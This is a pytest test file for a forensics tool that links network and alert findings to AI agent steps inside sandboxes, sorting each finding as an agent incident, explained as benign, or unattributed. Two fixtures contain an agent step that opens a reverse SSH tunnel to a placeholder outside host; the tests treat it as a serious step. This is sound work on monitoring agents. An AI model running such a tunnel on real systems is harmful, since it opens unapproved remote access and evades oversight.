"""What no agent step explains is reported, with the reason, and never forced into a link: an
inbound brute force from outside, a monitoring host's sweep, a sandbox's own start-up before its
trajectory, a process on the host; while a connection a benign step made is explained by that
step without becoming an incident."""

from __future__ import annotations

import pytest

from correlate_cases import at, cluster
from forensics import correlate


@pytest.fixture
def tiny(tmp_path):
    case = cluster(tmp_path / "case.duckdb")
    yield case
    case.close()


def _reasons(tiny) -> dict[str, str]:
    frame = tiny.case.unattributed()
    return {(row.finding_id or row.src_ip): row.reason for row in frame.itertuples()}


def test_an_inbound_brute_force_is_unattributed_not_linked(tiny):
    tiny.sandbox("traj-1", "sbx-1", "10.244.1.10", "node-a", 0, 900)
    ref = tiny.step("traj-1", 4, 100, "ssh -R 2222:localhost:22 t@203.0.113.50")
    tiny.action(ref, "traj-1", 4, "tunnel", "ssh_reverse_forward", "ip", "203.0.113.50", ip="203.0.113.50", port=22)
    rows = [tiny.net(at(100 + i), "node-a", "203.0.113.200", 50000 + i, "10.20.1.11", 22, action="deny",
                     direction="inbound", path="kern.log") for i in range(5)]
    tiny.finding("f-brute", "inbound_bruteforce", at(100), "node-a", [("net_events", *r) for r in rows],
                 src_ip="203.0.113.200", dst_ip="10.20.1.11", dst_port=22)
    tiny.link()
    assert tiny.links(finding_id="f-brute") == []
    reason = _reasons(tiny)["f-brute"]
    assert reason == ("not caused by any agent step in evidence: traffic from 203.0.113.200, outside the cluster, "
                      "to 10.20.1.11:22; no agent step can originate it")
    # its denied records are the finding's, not listed again
    assert "203.0.113.200" not in set(tiny.case.unattributed().query("item_kind == 'network'")["src_ip"])


def test_denied_records_no_finding_covers_are_grouped_and_explained(tiny):
    tiny.sandbox("traj-2", "sbx-2", "10.244.2.20", "node-b", 600, 1200)
    # monitor sweeps: a host with no sandboxes; a sandbox calling out before its trajectory began
    for i in range(3):
        tiny.net(at(10 + i), "node-a", "10.20.0.5", 33000 + i, "10.20.1.11", 9100 + i, action="deny",
                 direction="internal", path="kern.log")
    tiny.net(at(500), "node-b", "10.244.2.20", 47318, "192.0.2.99", 443, action="deny", path="kern-b.log")
    tiny.link()
    reasons = _reasons(tiny)
    assert reasons["10.20.0.5"].endswith("from 10.20.0.5 (monitor, role monitoring), a host that runs no agent sandbox")
    assert "the address of sandbox sbx-2 on node-b, before its trajectory's first step" in reasons["10.244.2.20"]
    monitor = tiny.case.unattributed().query("src_ip == '10.20.0.5'").iloc[0]
    assert monitor["n_records"] == 3 and monitor["item_kind"] == "network"


def test_a_host_process_outside_any_sandbox_is_the_hosts_own(tiny):
    tiny.finding("f-osquery", "falco_alert", at(50), "node-a", [("falco_alerts", 9, "line:4")], severity="medium",
                 details={"pid": 26051, "container_id": None})
    tiny.link()
    assert _reasons(tiny)["f-osquery"].endswith("a process on node-a itself, outside any sandbox")


def test_a_connection_a_benign_step_made_is_explained_by_it_not_unattributed_nor_linked(tiny):
    tiny.sandbox("traj-120", "sbx-120", "10.244.1.38", "node-a", 0, 900)
    tiny.step("traj-120", 5, 300, "git clone git@git.example.com:ml/tokenizers.git /tmp/tokenizers", end=306)
    tiny.dns(at(300.2), "node-a", "10.20.1.11", "git.example.com", ["192.0.2.40"])
    syn = tiny.net(at(300.3), "node-a", "10.244.1.38", 52914, "192.0.2.40", 22, path="kern.log")
    tiny.finding("f-git", "egress", at(300.3), "node-a", [("net_events", *syn)], src_ip="10.244.1.38",
                 dst_ip="192.0.2.40", dst_port=22, severity="medium")
    result = tiny.link()
    assert result.incidents == 0 and tiny.links() == []
    benign = tiny.case.explained_benign()
    assert benign[["finding_id", "trajectory_id", "step"]].values.tolist() == [["f-git", "traj-120", 5]]
    assert "its command names git.example.com, which resolved to 192.0.2.40" in benign["reason"].iloc[0]
    assert "f-git" not in _reasons(tiny)


def test_a_finding_a_serious_step_explains_is_not_unattributed(tiny):
    tiny.sandbox("traj-1", "sbx-1", "10.244.1.10", "node-a", 0, 900)
    ref = tiny.step("traj-1", 4, 100, "ssh -R 2222:localhost:22 t@203.0.113.50")
    tiny.action(ref, "traj-1", 4, "tunnel", "ssh_reverse_forward", "ip", "203.0.113.50", ip="203.0.113.50", port=22)
    syn = tiny.net(at(100.2), "node-a", "10.244.1.10", 43000, "203.0.113.50", 22, path="kern.log")
    tiny.finding("f-egress", "egress", at(100.2), "node-a", [("net_events", *syn)], src_ip="10.244.1.10",
                 dst_ip="203.0.113.50", dst_port=22)
    result = tiny.link()
    assert result.unattributed == 0
    assert correlate.check_invariants(tiny.con)["invariant/unattributed_is_unlinked"] == 0
